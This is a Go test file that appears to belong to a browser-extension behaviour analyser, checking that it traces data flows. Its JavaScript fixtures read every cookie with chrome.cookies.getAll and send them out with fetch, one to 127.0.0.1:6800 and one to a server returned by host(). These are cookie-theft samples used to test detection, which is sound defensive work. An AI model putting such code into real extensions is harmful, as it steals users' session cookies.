package analysis

import (
	"slices"
	"strings"
	"testing"

	"github.com/extwatch/extwatch/signatures/behavior"
)

func TestLimitsOfCookies(t *testing.T) {
	for query, want := range map[string][2]string{
		`{url}`: {"url=*", `{"url":"*"}`}, `{url: tab().url}`: {"", "{}"}, `{domain: d}`: {"domain=*", `{"domain":"*"}`}, `{}`: {"", "{}"}, `{domain: undefined}`: {"", "{}"},
	} {
		r := background(t, "bg.js", `let last; chrome.tabs.query({}, l => { last = l[0] }); const tab = () => last; chrome.tabs.onActivated.addListener((url, d) => chrome.cookies.getAll(`+query+`, l => fetch("http://127.0.0.1:6800/", {body: l})))`)
		i := slices.IndexFunc(r.Flows, func(f behavior.Flow) bool { return f.Source == "cookies" })
		if i < 0 || r.Flows[i].From != want[0] {
			t.Errorf("%s: flows %+v", query, r.Flows)
		}
		if i := slices.IndexFunc(r.Calls, func(c behavior.Call) bool { return c.API == "cookies.getAll" }); i < 0 || r.Calls[i].Args[0] != want[1] {
			t.Errorf("%s: calls %+v", query, r.Calls)
		}
	}
}

func TestPlaceOfRequest(t *testing.T) {
	r := background(t, "bg.js", "async function up(server, jar) {\n  const l = await chrome.cookies.getAll({});\n"+
		"  await fetch(server + \"/a\", {method: \"PUT\", body: await seal(l)});\n}\nasync function down(server) {\n  await fetch(server + \"/a\");\n}\nup(host()); down(host())")
	for _, f := range r.Flows {
		if last := f.Steps[len(f.Steps)-1]; last.Line != 3 || !strings.HasPrefix(last.What, "PUT") {
			t.Errorf("last step %+v", last)
		}
	}
	if len(r.Flows) == 0 {
		t.Error("no flow")
	}
}

// An address is the user's own only when nothing else than a page of the extension can set it.
